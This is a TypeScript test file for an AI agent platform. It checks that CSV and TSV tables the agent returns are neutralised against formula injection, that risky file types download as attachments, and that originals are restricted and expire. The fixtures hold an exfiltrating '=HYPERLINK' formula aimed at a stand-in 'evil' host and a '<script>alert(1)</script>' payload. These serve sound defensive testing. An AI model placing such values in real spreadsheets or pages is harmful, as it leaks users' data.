// What people download of an agent's table runs nothing; what the agent wrote is kept beside it for those who ask for it.
import { expect, test } from 'vitest';
import { newId } from '#core/domain/ids.ts';
import type { AgentFile } from '#core/ports/agents.ts';
import { agentsThat, done, fileOf } from '#core/testing/stages/agents-that.ts';
import { clockByHand } from '#core/testing/runner/clock-by-hand.ts';
import { forAll, openStage } from '#core/testing/stages/stage.ts';
import { expireFiles } from '../../operator/upkeep.ts';

let files: readonly AgentFile[];
const clock = clockByHand();
const world = forAll(() => openStage({ agents: agentsThat(() => done('Here.', files)), clock }));

const formulas = 'name,phone,change\n"=HYPERLINK(""http://evil/?""&A1,""Ann"")",+49 30 1234567,-12.5\n@Bob,-,3\n';
const safe = 'name,phone,change\n"\'=HYPERLINK(""http://evil/?""&A1,""Ann"")",+49 30 1234567,-12.5\n\'@Bob,-,3\n';

async function get(...some: AgentFile[]) {
  files = some;
  const ada = await world().person();
  const task = await ada.get('find me 5 leads');
  const download = async (url: string) => {
    const answer = await fetch(url, { headers: { Authorization: `Bearer ${ada.apiKey}` } });
    return {
      status: answer.status,
      text: await answer.text(),
      as: answer.headers.get('content-disposition') ?? '',
      type: answer.headers.get('content-type'),
    };
  };
  return { ada, task, download };
}

test('a table with formulas downloads without them, also from letters, and the rows are counted as before', async () => {
  const { ada, task, download } = await get(fileOf('leads.csv', formulas));
  const [file] = task.files;
  expect(task).toMatchObject({ status: 'completed', creditsUsed: 2, quantity: { delivered: 2 } });
  expect(await download(file!.url!)).toMatchObject({ text: safe, as: expect.stringContaining('attachment') as string });
  expect(file!.sizeBytes).toBe(Buffer.byteLength(safe));
  expect(file!.preview).toEqual({
    columns: ['name', 'phone', 'change'],
    rows: [
      ['\'=HYPERLINK("http://evil/?"&A1,"Ann")', '+49 30 1234567', '-12.5'],
      ["'@Bob", '-', '3'],
    ],
    rowsTotal: 2,
  });
  expect(JSON.stringify(await world().app.messages.letters(ada, task.conversationId, 0))).not.toMatch(/"=HYPERLINK|"@Bob/);
});

test('the original is beside it, byte for byte, for members of the team alone', async () => {
  const { task, download } = await get(fileOf('leads.csv', formulas));
  const original = new URL(task.files[0]!.original!, world().url).href;
  expect(await download(original)).toEqual({
    status: 200,
    text: formulas,
    as: expect.stringMatching(/^attachment; filename="leads \(original\)\.csv"/) as string,
    type: 'application/octet-stream',
  });
  expect((await fetch(original)).status).toBe(401);
  const stranger = await world().person();
  const asStranger = { headers: { Authorization: `Bearer ${stranger.apiKey}` } };
  expect((await fetch(original, asStranger)).status).toBe(404);
  expect((await fetch(original.replace(task.files[0]!.id, newId()), asStranger)).status).toBe(404);
});

test('a table without formulas is kept once, as it came, and has no other original', async () => {
  const plain = 'name,change\nAnn,-12.5\n';
  const { task, download } = await get(fileOf('leads.csv', plain));
  expect(task.files[0]!.original).toBeNull();
  expect((await download(task.files[0]!.url!)).text).toBe(plain);
  const none = new URL(`/api/tasks/${task.id}/files/${task.files[0]!.id}/original`, world().url).href;
  expect((await download(none)).status).toBe(404);
});

test('tables with tabs are treated alike; documents and sheets of other kinds stay as they are', async () => {
  const { task, download } = await get(
    fileOf('a.tsv', 'name\tx\n=1\t@y\n'),
    fileOf('b.md', '=1\n'),
    fileOf('c.xlsx', '=1'),
    fileOf('leads.csv', 'n\nx\n'),
  );
  expect(await Promise.all(task.files.map(async ({ url }) => (await download(url!)).text))).toEqual([
    "name\tx\n'=1\t'@y\n",
    '=1\n',
    '=1',
    'n\nx\n',
  ]);
});

test.each([
  'page.html',
  'picture.svg',
  'sheet.xlsx',
  'sheet.xls',
  'script.js',
  'page.xhtml',
  'page.htm',
  'data.xml',
  'query.iqy',
  'link.slk',
])('a result that could run something, such as %s, is only ever saved, never opened by a browser', async (name) => {
  const { ada, task, download } = await get(fileOf(name, '<script>alert(1)</script>'), fileOf('leads.csv', 'n\nx\n'));
  const file = task.files.find((each) => each.name === name)!;
  const { as, type } = await download(file.url!);
  expect(as).toMatch(/^attachment;/);
  expect(type).toMatch(/^application\/(octet-stream|vnd\.openxmlformats-officedocument\.spreadsheetml\.sheet)$/);
  expect((await world().app.files.open(ada, task.id, file.id)).shownAs).toBeNull();
});

test('when its time is over, nothing of it stays in storage', async () => {
  const { ada, task } = await get(fileOf('leads.csv', formulas));
  const { core } = world();
  const stored = await core.store.files.find(task.files[0]!.id);
  const keys = [stored!.storageKey, stored!.storageKey.replace(/\.safe$/, '')];
  for (const key of keys) (await core.files.open(key)).destroy();
  clock.forward(400 * 24 * 60 * 60 * 1000);
  await expireFiles(core);
  for (const key of keys) await expect(core.files.open(key)).rejects.toMatchObject({ code: 'file.missing' });
  expect((await world().app.tasks.get(ada, task.id)).files[0]).toMatchObject({ url: null, original: null });
});
